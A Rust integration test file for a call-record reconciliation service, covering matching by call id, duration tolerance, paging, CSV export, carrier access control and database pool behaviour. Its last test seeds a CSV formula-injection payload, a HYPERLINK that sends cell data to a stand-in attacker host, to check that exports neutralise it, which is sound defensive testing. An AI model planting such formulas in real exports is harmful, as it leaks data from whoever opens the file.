//! Reconciliation of flow 3 against flow 2.

use serde_json::{json, Value};

use crate::both;
use crate::helpers::*;

fn pair(carrier: &str, call: &str, platform: i64, carrier_secs: i64) -> (Value, Value) {
    let mut c = cdr(carrier, call, "+14255550100", "+14255550101");
    c["payload"]["duration_seconds"] = json!(platform);
    let mut d = duration(carrier, call, "+14255550100", "+14255550101");
    d["payload"]["duration_seconds"] = json!(carrier_secs);
    (c, d)
}

async fn durations_are_matched_by_call_id(app: TestApp) {
    let mut platform = Vec::new();
    let mut carrier = Vec::new();
    for (call, p, c) in [
        ("m1", 100, 100),
        ("m2", 60, 62),
        ("x1", 100, 103),
        ("x2", 50, 40),
    ] {
        let (a, b) = pair("carrier-a", call, p, c);
        platform.push(a);
        carrier.push(b);
    }
    // Only at the platform, only at the carrier.
    platform.push(pair("carrier-a", "p-only", 30, 0).0);
    carrier.push(pair("carrier-a", "c-only", 0, 45).1);
    // A retried submission of the same call: counted once.
    carrier.push(pair("carrier-a", "m1", 100, 100).1);
    // Another carrier with the same call ids: never mixed in.
    let mut other = Vec::new();
    let mut other_c = Vec::new();
    for call in ["m1", "x1", "p-only", "c-only"] {
        let (a, b) = pair("carrier-b", call, 999, 1);
        other.push(a);
        other_c.push(b);
    }
    let all = [platform, other].concat();
    app.post(
        "/v1/transfers/batch",
        &app.platform(),
        &json!({"transfers": all}),
    )
    .await
    .expect(201);
    app.post(
        "/v1/transfers/batch",
        &app.carrier("carrier-a"),
        &json!({"transfers": carrier}),
    )
    .await
    .expect(201);
    app.post(
        "/v1/transfers/batch",
        &app.carrier("carrier-b"),
        &json!({"transfers": other_c}),
    )
    .await
    .expect(201);

    let a = app.carrier("carrier-a");
    let r = app
        .get("/v1/reconciliation?tolerance_seconds=2", &a)
        .await
        .expect(200);
    let b = &r.body;
    assert_eq!(
        (b["matched"].clone(), b["mismatched"].clone()),
        (json!(2), json!(2)),
        "{b}"
    );
    assert_eq!(
        (
            b["missing_at_carrier"].clone(),
            b["missing_at_platform"].clone()
        ),
        (json!(1), json!(1))
    );
    assert_eq!(b["total_platform_seconds"], 100 + 60 + 100 + 50 + 30);
    assert_eq!(b["total_carrier_seconds"], 100 + 62 + 103 + 40 + 45);
    let mut mismatched: Vec<(String, i64, i64)> = b["items"]
        .as_array()
        .unwrap()
        .iter()
        .map(|i| {
            (
                i["call_id"].as_str().unwrap().to_string(),
                i["platform_seconds"].as_i64().unwrap(),
                i["carrier_seconds"].as_i64().unwrap(),
            )
        })
        .collect();
    mismatched.sort();
    assert_eq!(
        mismatched,
        vec![("x1".to_string(), 100, 103), ("x2".to_string(), 50, 40)]
    );
    assert!(
        !r.text.contains("4255550100"),
        "call ids and durations only, never numbers"
    );

    // Tolerance on either side of a difference; each outcome's list.
    let strict = app
        .get("/v1/reconciliation?tolerance_seconds=0", &a)
        .await
        .expect(200);
    assert_eq!(
        (
            strict.body["matched"].clone(),
            strict.body["mismatched"].clone()
        ),
        (json!(1), json!(3))
    );
    let loose = app
        .get("/v1/reconciliation?tolerance_seconds=3", &a)
        .await
        .expect(200);
    assert_eq!(loose.body["matched"], 3);
    let missing = app
        .get("/v1/reconciliation?outcome=missing_at_carrier", &a)
        .await
        .expect(200);
    assert_eq!(missing.body["items"][0]["call_id"], "p-only");
    assert_eq!(missing.body["items"][0]["carrier_seconds"], Value::Null);
    let missing = app
        .get("/v1/reconciliation?outcome=missing_at_platform", &a)
        .await
        .expect(200);
    assert_eq!(missing.body["items"][0]["call_id"], "c-only");
    // Paged.
    let page = app
        .get(
            "/v1/reconciliation?outcome=matched&limit=1&tolerance_seconds=2",
            &a,
        )
        .await
        .expect(200);
    assert_eq!(page.body["items"].as_array().unwrap().len(), 1);
    let cursor = page.body["next_cursor"].as_str().unwrap();
    let next = app
        .get(
            &format!(
                "/v1/reconciliation?outcome=matched&limit=1&tolerance_seconds=2&cursor={cursor}"
            ),
            &a,
        )
        .await
        .expect(200);
    assert_ne!(
        next.body["items"][0]["call_id"],
        page.body["items"][0]["call_id"]
    );
    assert!(next.body["next_cursor"].is_null());
    // CSV of the listed calls.
    let csv = app
        .get("/v1/reconciliation?tolerance_seconds=2&format=csv", &a)
        .await
        .expect(200);
    assert!(csv
        .text
        .starts_with("call_id,outcome,platform_seconds,carrier_seconds"));
    assert_eq!(csv.text.lines().count(), 3);

    // Carrier B sees its own figures only; A cannot ask for B's.
    let rb = app
        .get("/v1/reconciliation", &app.carrier("carrier-b"))
        .await
        .expect(200);
    assert_eq!(rb.body["mismatched"], 4);
    app.get("/v1/reconciliation?carrier_id=carrier-b", &a)
        .await
        .expect(403);
    let po = app
        .get("/v1/reconciliation?carrier_id=carrier-b", &app.officer())
        .await
        .expect(200);
    assert_eq!(po.body["mismatched"], 4);
    // A privacy officer must name the carrier; bad parameters are named.
    app.get("/v1/reconciliation", &app.officer())
        .await
        .expect(422);
    let r = app
        .get(
            "/v1/reconciliation?tolerance_seconds=-1&outcome=odd&from=x",
            &a,
        )
        .await
        .expect(422);
    let mut f = r.bad_fields();
    f.sort();
    assert_eq!(f, ["from", "outcome", "tolerance_seconds"]);
    // A period that excludes everything.
    let empty = app
        .get("/v1/reconciliation?from=2030-01-01T00:00:00Z", &a)
        .await
        .expect(200);
    assert_eq!(empty.body["matched"], 0);

    // The CLI prints the same summary.
    let out = app.cli(&[
        "reconcile",
        "--carrier",
        "carrier-a",
        "--tolerance-seconds",
        "2",
    ]);
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let text = String::from_utf8_lossy(&out.stdout);
    assert!(
        text.contains("matched") && text.contains("             2"),
        "{text}"
    );
    // And refuses what the API refuses, naming the option.
    for (args, names) in [
        (
            &[
                "--from",
                "2026-12-01T00:00:00Z",
                "--to",
                "2026-11-01T00:00:00Z",
            ][..],
            "--to must not be before --from",
        ),
        (&["--tolerance-seconds", "86401"], "--tolerance-seconds"),
        (&["--tolerance-seconds=-1"], "--tolerance-seconds"),
    ] {
        let out = app.cli(&[&["reconcile", "--carrier", "carrier-a"][..], args].concat());
        let err = String::from_utf8_lossy(&out.stderr);
        assert_eq!(out.status.code(), Some(1), "{args:?}: {err}");
        assert!(err.contains(names), "{args:?}: {err}");
    }
}
both!(durations_are_matched_by_call_id);

/// `n` calls of carrier-a on both sides; durations differ by 0, 1 or 2 s
/// in turn, so with a tolerance of 1 s two in three match.
async fn seed_calls(app: &TestApp, n: i64) {
    let (platform, carrier): (Vec<Value>, Vec<Value>) = (0..n)
        .map(|i| pair("carrier-a", &format!("call-{i}"), 60, 60 + (i % 3)))
        .unzip();
    for (token, items) in [
        (app.platform(), platform),
        (app.carrier("carrier-a"), carrier),
    ] {
        app.post("/v1/transfers/batch", &token, &json!({"transfers": items}))
            .await
            .expect(201);
    }
}

/// Many reconciliations at once (a carrier may send them in a burst) leave
/// the read pool to everyone else: none waits for a connection another
/// holds, and a read beside them is served at once.
async fn concurrent_reconciliations_do_not_starve_the_read_pool(app: TestApp) {
    seed_calls(&app, 2000).await;
    let token = app.carrier("carrier-a");
    let burst: Vec<_> = (0..16)
        .map(|_| {
            let (app, token) = (&app, &token);
            async move {
                app.get("/v1/reconciliation?tolerance_seconds=1", token)
                    .await
            }
        })
        .collect();
    let officer = app.officer();
    let (answers, read) = tokio::join!(
        futures::future::join_all(burst),
        app.get("/v1/transfers?limit=1", &officer)
    );
    for r in answers {
        let r = r.expect(200);
        assert_eq!(r.body["matched"], 1334, "{}", r.text);
    }
    read.expect(200);
}
both!(concurrent_reconciliations_do_not_starve_the_read_pool);

/// With the smallest pool allowed (two connections) a reconciliation gets
/// the same answer. (A pool of one, SQLite's in-memory database, cannot take
/// a pair: it reads the two sides in turn.)
async fn the_smallest_pool_reconciles_too(app: TestApp) {
    seed_calls(&app, 30).await;
    let r = app
        .get(
            "/v1/reconciliation?tolerance_seconds=1",
            &app.carrier("carrier-a"),
        )
        .await
        .expect(200);
    assert_eq!(
        (r.body["matched"].clone(), r.body["mismatched"].clone()),
        (json!(20), json!(10))
    );
}
both!(
    the_smallest_pool_reconciles_too,
    [("LEDGER_DB_MAX_CONNECTIONS", "2")]
);

/// A pool of one connection (a PostgreSQL pool the bench opens with one;
/// SQLite's in-memory database) cannot take a pair: the merge reads the two
/// sides in turn and must reach the same totals as with two. (A SQLite
/// file's read pool has at least two connections, so there the two paths
/// are the same one.)
async fn a_pool_of_one_reads_the_sides_in_turn(app: TestApp) {
    use transfer_ledger::storage::{reconciliation::reconcile, Db};
    seed_calls(&app, 30).await;
    let url = app.vars["LEDGER_DATABASE_URL"].clone();
    let one = Db::connect(&url, 1).await.unwrap();
    let pair = reconcile(app.db(), "carrier-a", i64::MIN, i64::MAX, 1, None)
        .await
        .unwrap()
        .0;
    let single = reconcile(&one, "carrier-a", i64::MIN, i64::MAX, 1, None)
        .await
        .unwrap()
        .0;
    assert_eq!(format!("{single:?}"), format!("{pair:?}"));
    assert_eq!((single.matched, single.mismatched), (20, 10));
}
both!(a_pool_of_one_reads_the_sides_in_turn);

/// A carrier chooses its call ids; the CSV a privacy officer opens in a
/// spreadsheet must not run one as a formula.
async fn a_call_id_never_runs_as_a_formula_in_the_csv(app: TestApp) {
    let formula = r#"=HYPERLINK("http://evil.example/?x="&A1,"open")"#;
    let calls = [formula, "+SUM(1+1)", "@cmd", "-2+3"]
        .map(|call| pair("carrier-a", call, 0, 45).1)
        .to_vec();
    app.post(
        "/v1/transfers/batch",
        &app.carrier("carrier-a"),
        &json!({"transfers": calls}),
    )
    .await
    .expect(201);
    let csv = app
        .get(
            "/v1/reconciliation?carrier_id=carrier-a&outcome=missing_at_platform&format=csv",
            &app.officer(),
        )
        .await
        .expect(200);
    let mut cells: Vec<String> = csv
        .text
        .lines()
        .skip(1)
        .map(|l| {
            csv::ReaderBuilder::new()
                .has_headers(false)
                .from_reader(l.as_bytes())
                .records()
                .next()
                .unwrap()
                .unwrap()[0]
                .to_string()
        })
        .collect();
    cells.sort();
    let mut expected = [formula, "+SUM(1+1)", "@cmd", "-2+3"].map(|c| format!("'{c}"));
    expected.sort();
    assert_eq!(cells, expected, "{}", csv.text);
    // The JSON answer keeps the call ids as they were sent.
    let json = app
        .get(
            "/v1/reconciliation?carrier_id=carrier-a&outcome=missing_at_platform",
            &app.officer(),
        )
        .await
        .expect(200);
    assert!(json.text.contains("+SUM(1+1)"), "{}", json.text);
}
both!(a_call_id_never_runs_as_a_formula_in_the_csv);
